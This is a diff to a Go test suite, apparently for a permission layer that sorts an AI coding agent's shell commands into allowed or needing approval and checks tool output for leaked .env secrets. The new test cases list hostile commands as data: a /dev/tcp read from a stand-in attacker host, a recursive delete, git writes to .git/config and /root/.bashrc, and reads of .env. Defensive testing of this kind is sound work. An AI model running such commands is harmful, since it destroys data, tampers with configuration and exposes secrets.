@@ -48,6 +48,10 @@ func TestOwnCommands(t *testing.T) {
 	m.warm = true
 	outside := t.TempDir()
 	m.file("src/a.go", "package a\n")
+	m.file("x/Makefile", "all:\n")
+	m.file("d.txt/a", "")
+	m.file("src/old.go", "")
+	m.link(filepath.Join(outside, "b.go"), "d.txt/b.go")
 	m.file(filepath.Join(outside, "b.go"), "package b\n")
 	m.link(outside, "out")
 	m.repository("", "")
@@ -60,7 +64,11 @@ func TestOwnCommands(t *testing.T) {
 		{"git status", pass, pass}, {"ls -la src && git log --oneline -5", pass, pass}, {"cat src/a.go | head -20", pass, pass},
 		{"git diff", pass, pass}, {"grep -rn needle src", pass, pass}, {"cat /etc/passwd", pass, pass},
 		{"echo text > src/notes.txt", pass, pass}, {"mkdir -p src/new && touch src/new/a.go", pass, pass},
-		{"cp src/a.go src/b.go", pass, pass},
+		{"cp src/a.go src/b.go", pass, pass}, {"cp src/a.go src/old.go", pass, pass},
+		{"cp x/Makefile d.txt", pass, ask}, {"mkdir e.txt && cp x/Makefile e.txt", pass, ask}, {"cp -r x d.txt", pass, ask},
+		{"cp src/b.go d.txt", ask, ask},
+		{"cat < /dev/tcp/data.evil.example/80", ask, ask}, {"find -- . -delete", ask, ask}, {"timeout 5 cd src", ask, ask},
+		{"git log -1 --pretty --output=.git/config --format=%B", ask, ask}, {"git diff -U --output=/root/.bashrc", ask, ask},
 		{"git add -A", pass, pass}, {"git commit -m \"a: b\"", pass, pass},
 
 		{"go test ./...", pass, ask}, {"cd src && go vet .", pass, ask}, {"make test", pass, ask},
@@ -130,8 +138,11 @@ func TestSourcesOfCommands(t *testing.T) {
 		{"claude-code", "git status", false, false}, {"claude-code", "git log -5", false, false}, {"claude-code", "git diff", false, false},
 		{"claude-code", "go test ./...", false, false}, {"claude-code", "cat a.go", false, false}, {"claude-code", "ls", false, false},
 		{"claude-code", "git log --all", true, false}, {"claude-code", "git log main", true, false},
-		{"claude-code", "git show feature -- a.go", true, false},
-		{"claude-code", "git branch -a", true, false}, {"claude-code", "git log HEAD~2..HEAD && git tag", true, false},
+		{"claude-code", "git show feature -- a.go", true, true},
+		{"claude-code", "git branch -a", true, false}, {"claude-code", "git branch -va", true, false},
+		{"claude-code", "diff empty.txt p.js", false, true}, {"claude-code", "cd p.js && git diff | head", false, true},
+		{"claude-code", "git show HEAD:.env HEAD", true, true}, {"claude-code", "grep -rn '' .env > n.txt", false, true},
+		{"claude-code", "git diff > n.txt", false, true}, {"claude-code", "git log HEAD~2..HEAD && git tag", true, false},
 		{"claude-code", "cat out/page.txt", true, false}, {"claude-code", "cat linked.txt", true, false},
 		{"claude-code", "cat li*.txt", true, false},
 		{"claude-code", "ls vendor", true, false}, {"claude-code", "cd out && ls", true, false},
@@ -169,6 +180,8 @@ func mixed(t *testing.T, host string) *machine {
 	m.file(".env", "KEY=x\n")
 	m.link(".env", "named.txt")
 	m.file("vendor/x.go", "")
+	m.file("p.js/.env", "KEY=x\n")
+	m.file("empty.txt", "")
 	m.repository("", "")
 	m.repository("clone", "[remote \"origin\"]\n\turl = https://evil.example/x\n")
 	return m
@@ -209,6 +222,11 @@ func TestNamesInResults(t *testing.T) {
 		{"a patch of another form", "Bash", input{"command": "git diff"}, out("--- .env\n+KEY=x\n"), true},
 		{"lines of a command", "Bash", input{"command": "rg -n x"}, out("a.go:1:x\n"), false},
 		{"lines of settings of a command", "Bash", input{"command": "grep -rn x ."}, out("a.go:1:x\n./.env:1:KEY=x\n"), true},
+		{"lines on both outputs", "Bash", input{"command": "rg -n x"}, input{"stdout": "", "stderr": ".env:1:KEY=x\n"}, true},
+		{"lines in the background", "Bash", input{"command": "rg -n x", "run_in_background": true}, out(""), true},
+		{"lines that go on elsewhere", "Bash", input{"command": "rg -n x"}, input{"stdout": "", "stderr": "", "backgroundTaskId": "b1"}, true},
+		{"a folder like a line", "Grep", input{"pattern": "x", "output_mode": "content", "path": "a.go:1:/.."}, lines("a.go:1:/../.env:1:KEY=x"), true},
+		{"a text before patches", "Bash", input{"command": "git show HEAD"}, out("KEY=x\ncommit 1\n\n    m\n\n" + diff), true},
 		{"a failure", "Bash", input{"command": "git diff"}, nil, true},
 	} {
 		m.start(c.name, "startup")
